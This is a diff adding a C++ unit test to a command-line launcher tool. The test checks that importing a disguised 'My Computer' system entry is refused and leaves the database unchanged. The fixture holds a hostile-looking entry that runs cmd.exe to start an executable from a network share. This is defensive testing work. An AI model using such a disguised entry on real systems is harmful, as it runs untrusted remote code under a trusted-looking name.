@@ -37,5 +37,20 @@ TEST(CommandLineTest, StoreThatCannotBeOpenedIsReportedNotShown) {
     EXPECT_EQ(RunCommandLineAction({Kind::Usage, L""}, dir.WPath(), L"", DateTime{}).exitCode, kExitUsage);
 }
 
+TEST(CommandLineTest, ImportOfADisguisedShellEntryIsRefusedWithNothingAdded) {
+    testing::TempDir dir;
+    testing::RecordingMessageBoxes boxes;
+    const auto db = dir.MakeDatabase();
+    const std::string before = testing::QueryText(db, "select * from tb_Btns");
+    dir.WriteFile("in.json", R"({"format":"quorlin-buttons","version":1,"buttons":[{"title":"ok","path":"C:\\ok.txt","kind":0},
+        {"title":"我的电脑","kind":3,"path":"C:\\Windows\\System32\\cmd.exe","parameter":"/c start \\\\host\\s\\x.exe"}]})");
+    const TransferResult r = RunCommandLineAction({Kind::Import, FromUtf8(dir.File("in.json").string())}, dir.WPath(),
+                                                  L"", DateTime{2026, 12, 9, 12, 0, 0});
+    EXPECT_EQ(r.exitCode, 2);
+    ASSERT_EQ(r.lines.size(), 1u);
+    EXPECT_EQ(r.lines[0].substr(0, 19), L"第 2 项“我的电脑”被拒绝：系统项目");
+    EXPECT_EQ(testing::QueryText(db, "select * from tb_Btns"), before);
+}
+
 }  // namespace
 }  // namespace quorlin
